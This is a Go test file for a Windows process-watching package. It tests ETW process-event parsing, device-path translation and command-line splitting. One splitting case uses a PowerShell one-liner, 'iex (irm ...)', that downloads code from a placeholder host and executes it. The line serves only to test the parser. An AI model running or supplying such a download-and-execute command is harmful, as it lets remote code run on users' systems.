package watch

import (
	"encoding/binary"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
)

// etwEvent puts fields together as the kernel does: u is a number of 32 bits, q
// one of 64, s a text, w a text that is not closed.
type etwEvent []byte

func (e etwEvent) u(values ...uint32) etwEvent {
	for _, v := range values {
		e = binary.LittleEndian.AppendUint32(e, v)
	}
	return e
}

func (e etwEvent) q(v uint64) etwEvent { return binary.LittleEndian.AppendUint64(e, v) }

func (e etwEvent) w(text string) etwEvent {
	for _, unit := range utf16.Encode([]rune(text)) {
		e = binary.LittleEndian.AppendUint16(e, unit)
	}
	return e
}

func (e etwEvent) s(text string) etwEvent { return e.w(text + "\x00") }

const (
	etwImage = `\Device\HarddiskVolume3\Users\joé\Zoom Installer.exe`
	etwBorn  = 134_389_272_958_774_220 // 2026-11-10 or so, as units of 100 ns since 1601
)

// mediumLabel is the mandatory label S-1-16-8192.
var mediumLabel = etwEvent{1, 1, 0, 0, 0, 0, 0, 16}.u(8192)

// etwStarts are starts as each version of the provider tells them.
func etwStarts() map[uint8]etwEvent {
	head := func() etwEvent { return etwEvent{}.u(4812).q(etwBorn).u(4711, 1) }
	v3 := etwEvent{}.u(4812).q(77).q(etwBorn).u(4711).q(66).u(1, 0, 3, 0)
	v3 = append(v3, mediumLabel...).s(etwImage).u(0, 0).s("").s("")
	return map[uint8]etwEvent{
		0: head().s(etwImage),
		1: head().u(0).s(etwImage),
		2: head().u(0).s(etwImage).u(0x1234, 0x5678).s("").s(""),
		3: v3,
		4: slices.Clone(v3).u(0),
		9: slices.Clone(v3).u(0, 1, 2, 3),
	}
}

func TestParseETW(t *testing.T) {
	for version, raw := range etwStarts() {
		p, ok := parseETWStart(version, raw)
		if !ok || p.pid != 4812 || p.parent != 4711 || p.image != etwImage || !p.created.Equal(fileTime(etwBorn)) {
			t.Errorf("version %d: %+v %v", version, p, ok)
		}
	}
	open := etwEvent{}.u(4812).q(etwBorn).u(4711, 1).w(etwImage)
	if p, ok := parseETWStart(0, append(open, 7)); !ok || p.image != etwImage {
		t.Errorf("a text that is not closed is %q %v", p.image, ok)
	}
	for version, raw := range map[uint8]etwEvent{0: etwEvent{}.u(7).q(etwBorn), 2: etwEvent{}.u(7).q(1).q(etwBorn)} {
		if p, ok := parseETWStop(version, raw.u(0, 0)); !ok || p.pid != 7 || !p.created.Equal(fileTime(etwBorn)) {
			t.Errorf("stop of version %d: %+v %v", version, p, ok)
		}
	}
}

func TestParseETWRefuses(t *testing.T) {
	for version, raw := range etwStarts() {
		short := raw[:len(raw)-len(raw)%2]
		for size := range short {
			if p, ok := parseETWStart(version, raw[:size]); ok && !strings.HasPrefix(etwImage, strings.TrimRight(p.image, "\x00")) {
				t.Fatalf("version %d: %q out of %d bytes", version, p.image, size)
			}
		}
		if _, ok := parseETWStart(version, raw[:16]); ok {
			t.Errorf("version %d: 16 bytes are taken", version)
		}
	}
	many := etwStarts()[3]
	many[4+8+8+4+8+16+1] = 200 // parts of the label
	if p, ok := parseETWStart(3, many); ok {
		t.Errorf("a label of 200 parts is taken: %+v", p)
	}
	if _, ok := parseETWStop(2, etwEvent{}.u(7).q(1)); ok {
		t.Error("a short stop is taken")
	}
}

func TestFileTime(t *testing.T) {
	want := time.Date(2001, 2, 3, 4, 5, 6, 700_000_000, time.UTC)
	units := uint64(want.Unix()+11_644_473_600)*10_000_000 + 7_000_000
	if got := fileTime(units); !got.Equal(want) {
		t.Errorf("got %v, want %v", got, want)
	}
	if got := fileTime(0); got.Year() != 1601 && got.UTC().Year() != 1601 {
		t.Errorf("the first moment is %v", got)
	}
}

func TestDOSPath(t *testing.T) {
	drives := []drive{{`\Device\HarddiskVolume1`, "E:"}, {`\Device\HarddiskVolume3`, "C:"}}
	cases := []struct {
		image, want string
		known       bool
	}{
		{`\Device\HarddiskVolume3\Windows\notepad.exe`, `C:\Windows\notepad.exe`, true},
		{`\device\harddiskvolume1\a.exe`, `E:\a.exe`, true},
		{`\Device\HarddiskVolume31\a.exe`, `\Device\HarddiskVolume31\a.exe`, false},
		{`\Device\Mup\server\share\a.exe`, `\\server\share\a.exe`, true},
		{`\SystemRoot\System32\smss.exe`, `C:\Windows\System32\smss.exe`, true},
		{`\??\C:\a.exe`, `C:\a.exe`, true},
		{`C:\a.exe`, `C:\a.exe`, true},
		{`Registry`, `Registry`, true},
	}
	for _, c := range cases {
		if got, known := dosPath(c.image, drives, `C:\Windows`); got != c.want || known != c.known {
			t.Errorf("%s is %s %v, want %s", c.image, got, known, c.want)
		}
	}
}

// The second table is that of Microsoft's documentation of CommandLineToArgvW.
func TestSplitCommandLine(t *testing.T) {
	cases := []struct {
		text string
		want []string
	}{
		{``, nil},
		{`   `, nil},
		{`a.exe`, []string{"a.exe"}},
		{`"C:\Program Files\a.exe" /q`, []string{`C:\Program Files\a.exe`, "/q"}},
		{`"C:\open\a.exe /q`, []string{`C:\open\a.exe /q`}},
		{`C:\dir\ "b c"`, []string{`C:\dir\`, "b c"}},
		{"a.exe\t1  2 ", []string{"a.exe", "1", "2"}},
		{`a.exe "" x`, []string{"a.exe", "", "x"}},
		{`x "abc" d e`, []string{"x", "abc", "d", "e"}},
		{`x a\\b d"e f"g h`, []string{"x", `a\\b`, "de fg", "h"}},
		{`x a\\\"b c d`, []string{"x", `a\"b`, "c", "d"}},
		{`x a\\\\"b c" d e`, []string{"x", `a\\b c`, "d", "e"}},
		{`x "a""b" c`, []string{"x", `a"b`, "c"}},
		{`powershell -c "iex (irm 'https://a.example.invalid')"`, []string{"powershell", "-c", "iex (irm 'https://a.example.invalid')"}},
	}
	for _, c := range cases {
		if got := splitCommandLine(c.text); !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q", c.text, got, c.want)
		}
	}
}

func FuzzParseETW(f *testing.F) {
	for version, raw := range etwStarts() {
		f.Add(version, []byte(raw))
	}
	f.Fuzz(func(t *testing.T, version uint8, raw []byte) {
		p, ok := parseETWStart(version, raw)
		if ok && (p.image == "" || len(p.image) > 2*len(raw)) {
			t.Fatalf("process %+v out of %d bytes", p, len(raw))
		}
		_, _ = parseETWStop(version, raw)
		if args := splitCommandLine(p.image); len(strings.Join(args, "")) > len(p.image) || len(args) > argsMost {
			t.Fatalf("%q is split into %q", p.image, args)
		}
	})
}
